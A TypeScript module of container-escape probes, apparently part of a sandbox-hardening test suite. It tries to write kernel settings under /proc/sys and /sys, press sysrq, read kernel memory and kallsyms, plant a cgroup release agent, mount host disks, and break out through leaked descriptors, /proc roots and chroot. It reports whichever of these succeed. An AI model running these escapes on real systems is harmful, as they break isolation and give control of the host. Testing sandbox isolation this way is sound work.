/** Ways out by files: what the kernel shows as files, mounts, and what was left open. */
import {
  closeSync,
  existsSync,
  mkdirSync,
  openSync,
  readFileSync,
  readdirSync,
  readlinkSync,
  readSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { type Attack, call, failure, readable, victim, writable } from './attack.ts';

const MS_RDONLY = 1;
const MS_REMOUNT = 32;
const MS_BIND = 4096;
const MNT_DETACH = 2;

/** Takes off what covers /proc and /sys, as far as it may. */
function unmask(): void {
  for (const line of readFileSync('/proc/self/mounts', 'utf8').split('\n')) {
    const target = line.split(' ')[1] ?? '';
    if (/^\/(proc|sys)\/./.test(target)) failure(() => call('umount2', target, MNT_DETACH));
  }
  for (const path of ['/proc', '/sys', '/proc/sys', '/sys/fs/cgroup']) {
    failure(() => call('mount', 'none', path, null, MS_REMOUNT | MS_BIND, null));
    failure(() => call('mount', 'none', path, null, MS_REMOUNT, null));
  }
}

/** A fresh one of each kind that a namespace may mount; those that could be. */
function mounted(type: string, options: string | null = null): string | undefined {
  const place = `/tmp/mounted-${type}-${options ?? ''}`;
  mkdirSync(place, { recursive: true });
  return failure(() => call('mount', type, place, type, 0, options)) === undefined ? place : undefined;
}

function cgroupPlaces(): string[] {
  const v1 = ['memory', 'pids', 'devices', 'cpu', 'rdma', 'freezer', 'misc', 'none,name=systemd'];
  const places = [...v1.map((name) => mounted('cgroup', name)), mounted('cgroup2')];
  const found = places.filter((place) => place !== undefined);
  const given = existsSync('/sys/fs/cgroup')
    ? readdirSync('/sys/fs/cgroup').map((name) => `/sys/fs/cgroup/${name}`)
    : [];
  return [...found, '/sys/fs/cgroup', ...given];
}

export const fileAttacks: Record<string, Attack> = {
  'write kernel settings below /proc/sys': () => {
    unmask();
    const names = ['kernel/core_pattern', 'kernel/modprobe', 'kernel/panic', 'vm/drop_caches', 'fs/suid_dumpable'];
    return writable(...names.map((name) => `/proc/sys/${name}`));
  },
  'write kernel settings in a new /proc': () => {
    unmask();
    const place = mounted('proc');
    if (place === undefined) return undefined;
    return (
      writable(`${place}/sys/kernel/core_pattern`, `${place}/sysrq-trigger`) ??
      (failure(() => closeSync(openSync(`${place}/kcore`, 'r'))) === undefined ? 'could read kcore' : undefined)
    );
  },
  'press the system request key': () => {
    unmask();
    return writable('/proc/sysrq-trigger');
  },
  'read the memory of the kernel': () => {
    unmask();
    const open = ['/proc/kcore', '/proc/kmem', '/dev/mem', '/dev/kmem', '/dev/port'].filter((path) => {
      let found = false;
      return failure(() => (found = hasByte(path))) === undefined && found;
    });
    return open.length === 0 ? undefined : `could read ${open.join(', ')}`;
  },
  'take the kernel’s addresses': () => {
    unmask();
    const line = readable('/proc/kallsyms')?.split('\n')[0] ?? '';
    return /^0+ /.test(line) || line === '' ? undefined : line;
  },
  'write below /sys: uevent_helper, power, parameters of modules': () => {
    unmask();
    const sys = [mounted('sysfs'), '/sys'].filter((place) => place !== undefined);
    const names = ['kernel/uevent_helper', 'power/state', 'kernel/mm/ksm/run', 'kernel/kexec_crash_size'];
    const parameters = ['module/kernel/parameters/panic', 'module/loop/parameters/max_loop'];
    return writable(...sys.flatMap((place) => [...names, ...parameters].map((name) => `${place}/${name}`)));
  },
  'be killed after everybody else': () =>
    failure(() => writeFileSync('/proc/self/oom_score_adj', '-1000')) === undefined
      ? 'oom_score_adj is -1000'
      : undefined,
  'have a release agent run on the host': () => {
    unmask();
    const agents = cgroupPlaces().flatMap((place) => [`${place}/release_agent`, `${place}/../release_agent`]);
    const byOption = failure(() => {
      mkdirSync('/tmp/agent', { recursive: true });
      call('mount', 'cgroup', '/tmp/agent', 'cgroup', 0, 'none,name=escape,release_agent=/bin/sh');
    });
    return byOption === undefined ? 'mounted with a release agent' : writable(...agents);
  },
  'lift one’s own limits in the cgroup': () => {
    unmask();
    const names = [
      'memory.limit_in_bytes',
      'memory.max',
      'pids.max',
      'devices.allow',
      'cgroup.procs',
      'notify_on_release',
    ];
    return writable(...cgroupPlaces().flatMap((place) => names.map((name) => `${place}/${name}`)));
  },
  'mount a disk of the host': () => {
    const names = readable('/proc/partitions')?.match(/\b(sd|vd|xvd|nvme|loop)\w+/g) ?? [];
    const sources = [
      '/dev/root',
      ...names.map((name) => `/dev/${name}`),
      ...readdirSync('/image-devices').map((name) => `/image-devices/${name}`),
    ];
    mkdirSync('/tmp/disk', { recursive: true });
    for (const source of sources)
      for (const type of ['ext4', 'xfs', 'btrfs'])
        if (failure(() => call('mount', source, '/tmp/disk', type, MS_RDONLY, null)) === undefined)
          return `${source} as ${type}`;
    return undefined;
  },
  'make a read-only mount of the host writable': () => {
    const again = '/tmp/again';
    mkdirSync(again, { recursive: true });
    failure(() => call('mount', '/attack', again, null, MS_BIND, null));
    for (const place of ['/attack', again]) {
      failure(() => call('mount', 'none', place, null, MS_REMOUNT | MS_BIND, null));
      const clear = Buffer.alloc(32);
      clear.writeBigUInt64LE(1n, 8);
      failure(() => call('mount_setattr', -100, place, 0, clear, 32));
      failure(() => writeFileSync(`${place}/written`, ''));
      if (existsSync('/attack/written')) return `wrote through ${place}`;
    }
    return undefined;
  },
  'write through a nested overlay': () => {
    for (const name of ['upper', 'work', 'merged']) mkdirSync(`/tmp/overlay/${name}`, { recursive: true });
    const options = 'lowerdir=/attack,upperdir=/tmp/overlay/upper,workdir=/tmp/overlay/work';
    if (failure(() => call('mount', 'overlay', '/tmp/overlay/merged', 'overlay', 0, options)) !== undefined)
      return undefined;
    failure(() => writeFileSync('/tmp/overlay/merged/written', ''));
    return existsSync('/attack/written') ? 'wrote to the lower directory' : undefined;
  },
  'write to files that the engine shares': () => {
    for (const path of ['/etc/hosts', '/etc/resolv.conf', '/etc/hostname']) {
      failure(() => call('mount', 'none', path, null, MS_REMOUNT | MS_BIND, null));
      if (failure(() => closeSync(openSync(path, 'r+'))) === undefined) return `could write ${path}`;
    }
    return undefined;
  },
  'leave by a descriptor that was left open': () => {
    for (const name of readdirSync('/proc/self/fd')) {
      const target =
        failure(() => readlinkSync(`/proc/self/fd/${name}`)) === undefined ? readlinkSync(`/proc/self/fd/${name}`) : '';
      for (const up of ['..', '../..', '../../..', '../../../../../..'])
        if (existsSync(`/proc/self/fd/${name}/${up}${victim('FILE')}`)) return `${name} (${target}) leads to the host`;
    }
    return undefined;
  },
  'see processes of others': () => {
    const strangers = readdirSync('/proc')
      .filter((name) => /^\d+$/.test(name))
      .filter(
        (name) =>
          !/^(\/node|sh|node|\s*$)|attacker|escape/.test(
            readable(`/proc/${name}/cmdline`)?.replaceAll('\0', ' ') ?? '',
          ),
      );
    return strangers.length === 0
      ? undefined
      : `sees ${strangers.map((name) => readable(`/proc/${name}/cmdline`)).join('; ')}`;
  },
  'read files of the host through /proc': () => {
    const roots = readdirSync('/proc').filter((name) => /^\d+$/.test(name));
    const found = roots.find((name) => existsSync(`/proc/${name}/root${victim('FILE')}`));
    return found === undefined ? undefined : `by /proc/${found}/root`;
  },
  'leave by chroot': () => {
    rmSync('/tmp/jail', { recursive: true, force: true });
    mkdirSync('/tmp/jail', { recursive: true });
    // As root in a chroot: up and up from a directory that stayed outside.
    for (let up = '/'; up.length < 100; up += '../')
      if (existsSync(`${up}${victim('FILE').slice(1)}`)) return `by ${up}`;
    return undefined;
  },
};

/** A masked file is /dev/null, which has nothing. */
function hasByte(path: string): boolean {
  const descriptor = openSync(path, 'r');
  try {
    return readSync(descriptor, Buffer.alloc(1)) > 0;
  } finally {
    closeSync(descriptor);
  }
}
